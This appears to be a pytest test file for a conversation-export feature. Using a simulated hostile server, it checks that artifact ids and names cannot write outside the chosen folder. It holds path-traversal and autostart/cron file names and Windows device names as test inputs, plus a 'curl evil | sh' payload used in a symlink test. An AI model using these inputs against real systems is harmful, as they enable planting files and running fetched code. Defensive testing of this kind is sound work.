"""Export never writes outside the folder the user chose (CONTRACT §10.1).

A hostile server sends the ids and names here: `HostileServer` stands in for the engine and
answers with whatever the test gives it, and its bytes come from real files. Each test lists
every file under a sandbox around the chosen folder afterwards: a file anywhere but in the
chosen folder is an escape.
"""

from __future__ import annotations

import hashlib
import os
import stat
from collections.abc import Iterator
from pathlib import Path
from typing import Any, cast

import pytest

from sync.errors import CertificateError, LocalFileError, UnsafePath
from sync.files.export import Exported, export_conversation
from sync.wire.models import Artifact, Event, SessionView
from tests.sync.helpers import run

SESSION = SessionView(
    "ses_1", "Trip", "2026-11-30T05:00:00.000000Z", "2026-11-30T06:00:00.000000Z", None, None
)
AT = "2026-11-30T05:14:13.123456Z"


class HostileServer:
    """The engine's side of an export (`api.get_session`, `transcript`, `api.get_artifact`,
    `artifact_file`), answering with the ids and names it was given."""

    def __init__(self, cache: Path, artifacts: list[tuple[str, str, bytes]]) -> None:
        self.api = self
        self._meta: dict[str, Artifact] = {}
        self._files: dict[str, Path] = {}
        cache.mkdir(parents=True, exist_ok=True)
        for n, (artifact_id, name, data) in enumerate(artifacts):
            digest = hashlib.sha256(data).hexdigest()
            self._meta[artifact_id] = Artifact(
                artifact_id, "ses_1", "run_1", name, "text/plain", len(data), digest, AT
            )
            self._files[artifact_id] = cache / f"{n}.bin"
            self._files[artifact_id].write_bytes(data)

    async def get_session(self, session_id: str) -> SessionView:
        return SESSION

    async def transcript(self, session_id: str) -> list[Event]:
        return [
            Event("ses_1", "run_1", n, "artifact.created", AT, {"artifact_id": a, "name": m.name})
            for n, (a, m) in enumerate(self._meta.items(), start=1)
        ]

    async def get_artifact(self, artifact_id: str) -> Artifact:
        return self._meta[artifact_id]

    async def artifact_file(self, artifact_id: str) -> Path:
        return self._files[artifact_id]

    def artifact_file_of(self, artifact_id: str) -> Path:
        return self._files[artifact_id]


def files_under(folder: Path) -> Iterator[Path]:
    for root, _dirs, names in os.walk(folder):
        for name in names:
            yield Path(root) / name


@pytest.fixture
def sandbox(tmp_path: Path) -> Path:
    """`<tmp>/sandbox/home/export` is the folder chosen; the rest of the sandbox must stay
    empty."""
    chosen = tmp_path / "sandbox" / "home" / "export"
    chosen.mkdir(parents=True)
    return tmp_path


def export(
    sandbox: Path, artifacts: list[tuple[str, str, bytes]], fmt: str = "markdown"
) -> dict[str, bytes]:
    """Export to `export/trip.md` (or .json); the files written under the chosen folder
    (relative path -> bytes), after checking nothing was written anywhere else."""
    chosen = sandbox / "sandbox" / "home" / "export"
    server = HostileServer(sandbox / "cache", artifacts)
    target = chosen / ("trip.json" if fmt == "json" else "trip.md")
    try:
        run(export_conversation(cast(Any, server), "ses_1", target, fmt))
    finally:
        escaped = [p for p in files_under(sandbox / "sandbox") if chosen not in p.parents]
        assert escaped == [], f"written outside the chosen folder: {escaped}"
    return {str(p.relative_to(chosen)): p.read_bytes() for p in files_under(chosen)}


def test_a_duplicate_name_never_takes_the_servers_id_into_the_path(sandbox: Path) -> None:
    """Today's code named the second `notes.txt` `{id}-notes.txt`: an id of `../../x` or an
    absolute path wrote outside the folder."""
    absolute = str(sandbox / "sandbox" / "abs")
    written = export(
        sandbox,
        [
            ("art_1", "notes.txt", b"one"),
            ("../../escaped", "notes.txt", b"two"),
            (absolute, "notes.txt", b"three"),
            ("..\\..\\win", "Notes.TXT", b"four"),
        ],
    )
    assert written["trip files/notes.txt"] == b"one"
    assert written["trip files/notes (2).txt"] == b"two"
    assert written["trip files/notes (3).txt"] == b"three"
    assert written["trip files/Notes (4).TXT"] == b"four"  # one file on NTFS and APFS
    markdown = written["trip.md"].decode()
    assert "](trip%20files/notes%20%282%29.txt)" in markdown


@pytest.mark.parametrize(
    ("hostile", "expected"),
    [
        ("../../.config/autostart/x.desktop", "_.._.config_autostart_x.desktop"),
        ("/etc/cron.d/job", "_etc_cron.d_job"),
        ("C:\\Users\\me\\Startup\\x.bat", "C__Users_me_Startup_x.bat"),
        ("..", "file"),
        (". . .  ", "file"),
        ("a\x00b.txt", "a_b.txt"),
        ("CON", "_CON"),
        ("nul.txt", "_nul.txt"),
        ("com1.log", "_com1.log"),
        ("report\u202etxt.exe", "reporttxt.exe"),
        ("line\nbreak.txt", "line_break.txt"),
    ],
)
def test_an_artifact_name_becomes_one_safe_file_in_the_files_folder(
    sandbox: Path, hostile: str, expected: str
) -> None:
    """Reserved device names (`CON`, `nul.txt`, `COM1`) are the cases today's code let
    through; the rest it already flattened, and the table keeps them flat."""
    written = export(sandbox, [("art_1", hostile, b"x")])
    assert sorted(written) == sorted([f"trip files/{expected}", "trip.md"])


def test_a_300_character_multibyte_name_is_cut_to_fit_the_file_system(sandbox: Path) -> None:
    """Today's code kept 120 characters: 360 bytes of CJK, over ext4's 255 (ENAMETOOLONG)."""
    written = export(sandbox, [("art_1", "漢" * 300 + ".txt", b"long")])
    (name,) = (n for n in written if n.startswith("trip files/"))
    leaf = name.removeprefix("trip files/")
    assert leaf.endswith(".txt") and set(leaf.removesuffix(".txt")) == {"漢"}
    assert len(leaf.encode("utf-8")) <= 200
    assert written[name] == b"long"


def test_a_symlink_planted_as_the_files_folder_is_refused(sandbox: Path) -> None:
    """Today's code wrote through a `trip files` symlink to wherever it pointed."""
    chosen = sandbox / "sandbox" / "home" / "export"
    elsewhere = sandbox / "sandbox" / "autostart"
    elsewhere.mkdir()
    (chosen / "trip files").symlink_to(elsewhere, target_is_directory=True)
    with pytest.raises(UnsafePath) as caught:
        export(sandbox, [("art_1", "x.desktop", b"[Desktop Entry]")])
    assert "not be inside" in caught.value.message
    assert list(elsewhere.iterdir()) == []


def test_a_symlink_planted_at_a_files_name_is_never_written_through(sandbox: Path) -> None:
    """Today's code copied the artifact's bytes over the file the symlink named."""
    chosen = sandbox / "sandbox" / "home" / "export"
    victim = sandbox / "bashrc"  # outside the sandbox the export is checked against
    victim.write_text("original")
    (chosen / "trip files").mkdir()
    (chosen / "trip files" / "notes.txt").symlink_to(victim)
    with pytest.raises(UnsafePath):
        export(sandbox, [("art_1", "notes.txt", b"curl evil | sh")])
    assert victim.read_text() == "original"


@pytest.mark.parametrize("fmt", ["markdown", "json"])
@pytest.mark.parametrize("umask", [0o022, 0o000])
def test_every_exported_file_and_folder_is_private_whatever_the_umask(
    sandbox: Path, fmt: str, umask: int
) -> None:
    old = os.umask(umask)
    try:
        export(sandbox, [("art_1", "a.txt", b"a"), ("art_2", "a.txt", b"b")], fmt)
    finally:
        os.umask(old)
    chosen = sandbox / "sandbox" / "home" / "export"
    for path in files_under(chosen):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    if fmt == "markdown":
        assert stat.S_IMODE((chosen / "trip files").stat().st_mode) == 0o700


def test_an_export_into_a_missing_folder_creates_it_private(sandbox: Path) -> None:
    chosen = sandbox / "sandbox" / "home" / "export"
    server = HostileServer(sandbox / "cache", [("art_1", "a.txt", b"a")])
    target = chosen / "new" / "deeper" / "trip.md"
    old = os.umask(0o022)
    try:
        run(export_conversation(cast(Any, server), "ses_1", target, "markdown"))
    finally:
        os.umask(old)
    assert target.is_file()
    for folder in (chosen / "new", chosen / "new" / "deeper"):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700


def test_an_export_that_fails_midway_leaves_none_of_its_files(sandbox: Path) -> None:
    """The second file's bytes cannot be read (the cache lost them): the first file, already
    copied, and the folder made for them are taken back; nothing of the export is left."""
    chosen = sandbox / "sandbox" / "home" / "export"
    server = HostileServer(sandbox / "cache", [("art_1", "a.txt", b"a"), ("art_2", "b.txt", b"b")])
    server.artifact_file_of("art_2").unlink()
    with pytest.raises(LocalFileError):
        run(export_conversation(cast(Any, server), "ses_1", chosen / "trip.md", "markdown"))
    assert list(chosen.iterdir()) == []


def test_an_export_into_an_existing_files_folder_keeps_what_was_there(sandbox: Path) -> None:
    """A failed export takes back only what it wrote: a files folder that was already there
    (an earlier export of the same name) keeps its files."""
    chosen = sandbox / "sandbox" / "home" / "export"
    (chosen / "trip files").mkdir()
    (chosen / "trip files" / "kept.txt").write_bytes(b"kept")
    (chosen / "trip files" / "a.txt").write_bytes(b"the earlier export's a.txt")
    server = HostileServer(sandbox / "cache", [("art_1", "a.txt", b"a"), ("art_2", "b.txt", b"b")])
    server.artifact_file_of("art_2").unlink()
    with pytest.raises(LocalFileError):
        run(export_conversation(cast(Any, server), "ses_1", chosen / "trip.md", "markdown"))
    assert sorted(str(p.relative_to(chosen)) for p in files_under(chosen)) == [
        "trip files/a.txt",
        "trip files/kept.txt",
    ]
    assert (chosen / "trip files" / "a.txt").read_bytes() == b"the earlier export's a.txt"


@pytest.mark.parametrize("fmt", ["markdown", "json"])
def test_a_failed_export_removes_the_folders_it_made_on_the_way(sandbox: Path, fmt: str) -> None:
    chosen = sandbox / "sandbox" / "home" / "export"
    server = HostileServer(sandbox / "cache", [("art_1", "a.txt", b"a")])
    server.artifact_file_of("art_1").unlink()
    target = chosen / "new" / "deeper" / ("trip.md" if fmt == "markdown" else "trip.json")
    with pytest.raises(LocalFileError):
        run(export_conversation(cast(Any, server), "ses_1", target, fmt))
    assert list(chosen.iterdir()) == []


def test_a_certificate_refused_is_said_as_such_not_exported_from_the_device(
    sandbox: Path,
) -> None:
    """A TLS failure is a NetworkError too; falling back to the device's copy would have
    reported a possible interception as "the server could not be reached"."""

    class Intercepted(HostileServer):
        async def get_session(self, session_id: str) -> SessionView:
            raise CertificateError("The server's certificate is not trusted.")

    chosen = sandbox / "sandbox" / "home" / "export"
    server = Intercepted(sandbox / "cache", [])
    with pytest.raises(CertificateError):
        run(export_conversation(cast(Any, server), "ses_1", chosen / "trip.md", "markdown"))
    assert list(chosen.iterdir()) == []


@pytest.mark.parametrize(
    ("exported", "said"),
    [
        (Exported(Path("t.md")), ""),
        (
            Exported(Path("t.md"), "markdown", from_device=True, missing=2),
            "this device's copy: the server could not be reached; "
            "2 files were not on this device, marked (not available)",
        ),
        (
            Exported(Path("t.json"), "json", from_device=True, stale=True, missing=1),
            "this device's copy, which may lack the newest messages: the server could not be "
            "reached; 1 file was not on this device, left out",
        ),
    ],
)
def test_the_caveats_say_what_the_document_lacks_in_its_own_format(
    exported: Exported, said: str
) -> None:
    assert exported.caveats() == said
